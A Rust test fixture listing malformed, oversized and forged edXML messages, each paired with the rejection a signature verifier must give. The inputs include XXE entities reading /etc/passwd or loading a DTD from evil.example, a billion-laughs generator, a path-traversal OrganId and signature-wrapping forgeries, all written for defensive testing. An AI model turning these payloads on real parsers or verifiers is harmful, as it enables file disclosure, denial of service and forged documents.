//! The hostile-input table: malformed, oversized and forged messages, each
//! with the refusal it must get. `tests/hostile_input.rs` runs it against
//! the verifier; `tests/hostile_axis.rs` sends it over RabbitMQ to a real
//! receiving adapter.

use base64::Engine;
use docaxis_dsig::VerifyError;
use docaxis_edxml::{Attachment, ManifestReference, ParseLimits};
use docaxis_xml::XmlErrorKind;

use crate::*;

/// What a case must be refused with.
pub enum Expect {
    /// An XML-level refusal of this kind.
    Xml(fn(&XmlErrorKind) -> bool),
    /// A field error at this path.
    Field(&'static str),
    /// A verification error of this kind.
    Verify(fn(&VerifyError) -> bool),
    /// A key refusal whose reason says this.
    KeyReason(&'static str),
}

/// One hostile input.
pub struct Case {
    /// What it is.
    pub name: &'static str,
    /// The bytes.
    pub input: Vec<u8>,
    /// The limits it is read with (stricter than the defaults for the
    /// size cases, to keep them small).
    pub limits: ParseLimits,
    /// The refusal it must get.
    pub expect: Expect,
}

impl Case {
    /// Whether `err` is the refusal this case must get.
    pub fn matches(&self, err: &VerifyError) -> bool {
        match (&self.expect, err) {
            (Expect::Xml(f), VerifyError::Xml(x)) => f(&x.kind),
            (Expect::Field(path), VerifyError::Invalid(p)) => {
                p.field_errors().iter().any(|e| e.path == *path)
            }
            (Expect::Verify(f), e) => f(e),
            (Expect::KeyReason(s), VerifyError::Key { reason, .. }) => {
                reason.to_string().contains(s)
            }
            _ => false,
        }
    }
}

fn case(name: &'static str, input: impl Into<Vec<u8>>, expect: Expect) -> Case {
    Case {
        name,
        input: input.into(),
        limits: ParseLimits::default(),
        expect,
    }
}

fn signed() -> Vec<u8> {
    sign(&Fixture::new().signer(G22), document())
}

fn signed_text() -> String {
    String::from_utf8(signed()).unwrap()
}

fn signature_block(text: &str) -> &str {
    let start = text.find("<Signature").unwrap();
    let end = text.find("</Signature>").unwrap() + "</Signature>".len();
    &text[start..end]
}

/// The table, signed with the keys of [`Fixture`].
pub fn cases() -> Vec<Case> {
    let fx = Fixture::new();
    let text = signed_text();
    let sig = signature_block(&text).to_owned();
    let mut v = vec![
        case("malformed: unclosed element", "<edXML:edXML xmlns:edXML=\"x\"><a>", Expect::Xml(|k| matches!(k, XmlErrorKind::Malformed(_)))),
        case("malformed: mismatched end tag", "<a></b>", Expect::Xml(|k| matches!(k, XmlErrorKind::Malformed(_)))),
        case("malformed: not XML at all", "%PDF-1.4 binary", Expect::Xml(|k| matches!(k, XmlErrorKind::ContentOutsideRoot(_) | XmlErrorKind::NoRootElement))),
        case("empty input", "", Expect::Xml(|k| matches!(k, XmlErrorKind::NoRootElement))),
        case("DOCTYPE with internal entity", "<!DOCTYPE a [<!ENTITY e \"x\">]><a>&e;</a>", Expect::Xml(|k| *k == XmlErrorKind::DoctypeForbidden)),
        case("XXE: external entity", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><a>&xxe;</a>", Expect::Xml(|k| *k == XmlErrorKind::DoctypeForbidden)),
        case("XXE: parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><a/>", Expect::Xml(|k| *k == XmlErrorKind::DoctypeForbidden)),
        case("billion laughs", billion_laughs(), Expect::Xml(|k| *k == XmlErrorKind::DoctypeForbidden)),
        case("undeclared entity without DOCTYPE", "<a>&lol;</a>", Expect::Xml(|k| matches!(k, XmlErrorKind::UnknownEntity(_)))),
        case("depth bomb: 100,000 nested elements", "<a>".repeat(100_000), Expect::Xml(|k| matches!(k, XmlErrorKind::TooDeep { .. }))),
        case("width bomb: 200,000 sibling elements", format!("<a>{}</a>", "<b/>".repeat(200_000)), Expect::Xml(|k| matches!(k, XmlErrorKind::TooManyElements { .. }))),
        case("huge attribute value (1 MB)", format!("<a b=\"{}\"/>", "x".repeat(1 << 20)), Expect::Xml(|k| matches!(k, XmlErrorKind::AttributeTooLong { .. }))),
        case("attribute flood (1,000 attributes)", format!("<a {}/>", (0..1000).map(|i| format!("a{i}=\"1\"")).collect::<Vec<_>>().join(" ")), Expect::Xml(|k| matches!(k, XmlErrorKind::TooManyAttributes { .. }))),
        case("huge element name", format!("<{}/>", "n".repeat(10_000)), Expect::Xml(|k| matches!(k, XmlErrorKind::NameTooLong { .. }))),
        case("invalid UTF-8", replace_once(&signed(), "Hà Nội", "H\u{0}").into_iter().map(|b| if b == 0 { 0xFF } else { b }).collect::<Vec<u8>>(), Expect::Xml(|k| *k == XmlErrorKind::NotUtf8)),
        case("declared UTF-16", text.replacen("encoding=\"UTF-8\"", "encoding=\"UTF-16\"", 1), Expect::Xml(|k| matches!(k, XmlErrorKind::UnsupportedEncoding(_)))),
        case("control character in text", text.replacen("Hà Nội", "Hà\u{8}Nội", 1), Expect::Xml(|k| *k == XmlErrorKind::InvalidChar(8))),
        case("NUL character reference", text.replacen("Hà Nội", "&#0;", 1), Expect::Xml(|k| *k == XmlErrorKind::InvalidChar(0))),
        case("unbound namespace prefix", text.replacen("<edXML:Subject>", "<evil:Subject>", 1).replacen("</edXML:Subject>", "</evil:Subject>", 1), Expect::Xml(|k| matches!(k, XmlErrorKind::UnboundPrefix(_)))),
        case("wrong namespace on the root", text.replacen("http://www.mic.gov.vn/TBT/QCVN_102_2016", "http://www.mic.gov.vn/TBT/QCVN_102_2015", 1), Expect::Field("edXML")),
        case("element in a foreign namespace", text.replacen("<edXML:Subject>", "<edXML:Subject xmlns:edXML=\"urn:other\">", 1), Expect::Field("MessageHeader/Subject")),
        case("missing From", cut(&text, "<edXML:From>", "</edXML:From>"), Expect::Field("MessageHeader/From")),
        case("missing TraceHeader", cut(&text, "<edXML:TraceHeader>", "</edXML:TraceHeader>"), Expect::Field("TraceHeaderList")),
        case("duplicated Subject", text.replacen("<edXML:Subject>", "<edXML:Subject>Một trích yếu khác</edXML:Subject><edXML:Subject>", 1), Expect::Field("MessageHeader/Subject")),
        case("invalid date", text.replacen("2022/07/01</edXML:PromulgationDate>", "2022/02/30</edXML:PromulgationDate>", 1), Expect::Field("MessageHeader/PromulgationInfo/PromulgationDate")),
        case("invalid priority", text.replacen("<edXML:Priority>1<", "<edXML:Priority>9<", 1), Expect::Field("MessageHeader/OtherInfo/Priority")),
        case("OrganId with a path in it", text.replacen("<edXML:OrganId>000.00.00.G12<", "<edXML:OrganId>../../etc/passwd<", 1), Expect::Field("MessageHeader/To[1]/OrganId")),
        case("attachment that is not base64", text.replacen("<edXML:ContentTransferEncoded>", "<edXML:ContentTransferEncoded>!!", 1), Expect::Field("AttachmentEncoded/Attachment[1]/ContentTransferEncoded")),
        case("unsigned document", docaxis_edxml::example_document_xml(), Expect::Verify(|e| matches!(e, VerifyError::NotSigned))),
        case("forged signature value", text.replacen(&sig_value(&sig), &base64::engine::general_purpose::STANDARD.encode([7u8; 64]), 1), Expect::Verify(|e| matches!(e, VerifyError::BadSignature(_)))),
        case("tampered content: Subject edited after signing", text.replacen("V/v đẩy mạnh", "V/v tạm dừng", 1), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
        case("tampered content: recipient added after signing", text.replacen("<edXML:To>", &format!("<edXML:To><edXML:OrganId>{G09}</edXML:OrganId><edXML:OrganName>x</edXML:OrganName></edXML:To><edXML:To>"), 1), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
        case("tampered attachment: one base64 character", tamper_attachment(&text), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
        case("tampered DocumentId", text.replacen("123/VPCP-KSTT</edXML:DocumentId>", "124/VPCP-KSTT</edXML:DocumentId>", 1), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
        case("tampered SignedInfo: DigestValue swapped", text.replacen(&digest_value(&sig), &base64::engine::general_purpose::STANDARD.encode([0u8; 32]), 1), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
        case("re-signed with another agency's key", sign(&fx.signer(H41), document()), Expect::Verify(|e| matches!(e, VerifyError::SignerNotSender { .. }))),
        case("sender claims another agency's id", claim_other_sender(&fx), Expect::Verify(|e| matches!(e, VerifyError::SignerNotSender { .. }))),
        case("key not in the directory", sign(&fx.signer_with(77, "G22-unknown"), document()), Expect::KeyReason("not in the agency directory")),
        case("KeyName of a real key, signed with another key", sign(&fx.signer_with(77, "G22-2022"), document()), Expect::Verify(|e| matches!(e, VerifyError::BadSignature(_)))),
        case("expired key", sign(&fx.signer_with(22, "G22-2021"), document()), Expect::KeyReason("expired")),
        case("revoked key (backdated claim)", sign(&fx.signer_with(21, "G22-stolen"), document()), Expect::KeyReason("revoked")),
        case("key not yet valid", sign(&fx.signer_with(23, "G22-2023"), document()), Expect::KeyReason("valid only from")),
        case("suspended agency", suspended_sender(&fx), Expect::KeyReason("suspended")),
        case("signing time in the future", future_signed(&fx), Expect::KeyReason("clock")),
        case("no sender TraceHeader", no_sender_trace(&fx), Expect::Verify(|e| matches!(e, VerifyError::NoSenderTrace(_)))),
        case("signature wrapping: original signature moved into MessageHeader", wrap_in_header(&text, &sig), Expect::Verify(|e| matches!(e, VerifyError::Wrapping(_)))),
        case("signature wrapping: second Signature in an attachment", text.replacen("<edXML:ContentId>cid:1</edXML:ContentId>\n      <edXML:AttachmentName>", &format!("<edXML:ContentId>cid:1</edXML:ContentId>{sig}\n      <edXML:AttachmentName>"), 1), Expect::Verify(|e| matches!(e, VerifyError::Wrapping(_)))),
        case("two signatures in edXMLHeader", text.replacen(&sig, &format!("{sig}{sig}"), 1), Expect::Field("Signature")),
        case("Reference to an id instead of the whole document", text.replacen("<Reference URI=\"\">", "<Reference URI=\"#body\">", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "Reference/@URI", .. }))),
        case("RSA-SHA1 signature method", text.replacen("http://www.w3.org/2021/04/xmldsig-more#eddsa-ed25519", "http://www.w3.org/2000/09/xmldsig#rsa-sha1", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "SignatureMethod", .. }))),
        case("SHA-1 digest", text.replacen("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "DigestMethod", .. }))),
        case("inclusive C14N", text.replacen("<CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\">", "<CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\">", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "CanonicalizationMethod", .. }))),
        case("extra XPath transform", text.replacen("</Transforms>", "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"></Transform></Transforms>", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "Transforms", .. }))),
        case("enveloped transform missing", text.replacen("<Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"></Transform>", "", 1), Expect::Verify(|e| matches!(e, VerifyError::Unsupported { field: "Transforms", .. }))),
        case("KeyName missing", cut(&text, "<KeyInfo>", "</KeyInfo>"), Expect::Verify(|e| matches!(e, VerifyError::NoKeyName))),
        case("SignatureValue of the wrong length", text.replacen(&sig_value(&sig), "AAAA", 1), Expect::Verify(|e| matches!(e, VerifyError::BadEncoding("SignatureValue")))),
        case("Signature outside the XML-DSig namespace", text.replacen("<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">", "<Signature xmlns=\"urn:not-dsig\">", 1), Expect::Field("Signature")),
        case("signature transplanted from another document", transplant(&fx, &sig), Expect::Verify(|e| matches!(e, VerifyError::DigestMismatch))),
    ];
    let mut big = case(
        "document over the size limit",
        signed(),
        Expect::Xml(|k| matches!(k, XmlErrorKind::TooLarge { .. })),
    );
    big.limits.xml.max_bytes = 4096;
    v.push(big);
    let mut many = case(
        "too many attachments",
        sign(&fx.signer(G22), with_attachments(3, 16)),
        Expect::Field("AttachmentEncoded"),
    );
    many.limits.max_attachments = 2;
    v.push(many);
    let mut large = case(
        "attachment over the size limit",
        sign(&fx.signer(G22), with_attachments(1, 4096)),
        Expect::Field("AttachmentEncoded/Attachment[1]/ContentTransferEncoded"),
    );
    large.limits.max_attachment_bytes = 1024;
    v.push(large);
    v
}

fn billion_laughs() -> String {
    let mut s = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        s.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    s.push_str("]>\n<lolz>&lol9;</lolz>");
    s
}

fn cut(text: &str, start: &str, end: &str) -> String {
    let a = text.find(start).expect("start marker");
    let b = text[a..].find(end).expect("end marker") + a + end.len();
    format!("{}{}", &text[..a], &text[b..])
}

fn between<'a>(s: &'a str, start: &str, end: &str) -> &'a str {
    let a = s.find(start).unwrap() + start.len();
    let b = s[a..].find(end).unwrap() + a;
    &s[a..b]
}

fn sig_value(sig: &str) -> String {
    between(sig, "<SignatureValue>", "</SignatureValue>").to_owned()
}

fn digest_value(sig: &str) -> String {
    between(sig, "<DigestValue>", "</DigestValue>").to_owned()
}

fn tamper_attachment(text: &str) -> String {
    let data = between(
        text,
        "<edXML:ContentTransferEncoded>",
        "</edXML:ContentTransferEncoded>",
    );
    let mut changed = data.to_owned().into_bytes();
    changed[0] = if changed[0] == b'A' { b'B' } else { b'A' };
    text.replacen(data, std::str::from_utf8(&changed).unwrap(), 1)
}

fn claim_other_sender(fx: &Fixture) -> Vec<u8> {
    // H41 writes a document claiming to be from G22, signed with H41's key.
    let mut doc = document();
    doc.header.to.retain(|t| t.organ_id.as_str() != H41);
    sign(&fx.signer(H41), doc)
}

fn suspended_sender(fx: &Fixture) -> Vec<u8> {
    let mut doc = document();
    doc.header.from.organ_id = docaxis_edxml::OrganId::parse(G09).unwrap();
    doc.header.document_id = doc.header.expected_document_id();
    doc.trace.trace_headers[0].organ_id = doc.header.from.organ_id.clone();
    sign(&fx.signer(G09), doc)
}

fn future_signed(fx: &Fixture) -> Vec<u8> {
    let mut doc = document();
    doc.trace.trace_headers[0].timestamp =
        docaxis_edxml::EdTimestamp::parse("2022/07/02 08:30:00").unwrap();
    sign(&fx.signer(G22), doc)
}

fn no_sender_trace(fx: &Fixture) -> Vec<u8> {
    let mut doc = document();
    doc.trace.trace_headers[0].organ_id = docaxis_edxml::OrganId::parse(G12).unwrap();
    sign(&fx.signer(G22), doc)
}

fn wrap_in_header(text: &str, sig: &str) -> String {
    // The classic wrapping: keep the valid signature, but move it where a
    // naive verifier still finds it while the content beside it changes.
    let moved = text.replacen(sig, "", 1);
    moved
        .replacen("<edXML:DocumentId>", &format!("{sig}<edXML:DocumentId>"), 1)
        .replacen("V/v đẩy mạnh", "V/v tạm dừng", 1)
}

fn transplant(fx: &Fixture, sig: &str) -> Vec<u8> {
    let mut other = document();
    other.header.subject = "Một văn bản khác".into();
    let other = String::from_utf8(sign(&fx.signer(G22), other)).unwrap();
    let other_sig = signature_block(&other).to_owned();
    other.replacen(&other_sig, sig, 1).into_bytes()
}

fn with_attachments(n: usize, size: usize) -> docaxis_edxml::Document {
    let mut doc = document();
    doc.manifest.references.clear();
    doc.attachments.clear();
    for i in 0..n {
        let cid = format!("cid:{i}");
        doc.manifest.references.push(ManifestReference {
            content_id: cid.clone(),
            content_type: "application/pdf".into(),
            description: String::new(),
            attachment_name: format!("{i}.pdf"),
        });
        doc.attachments.push(Attachment {
            content_id: cid,
            attachment_name: format!("{i}.pdf"),
            description: String::new(),
            content_type: "application/pdf".into(),
            content: vec![b'%'; size],
        });
    }
    doc
}
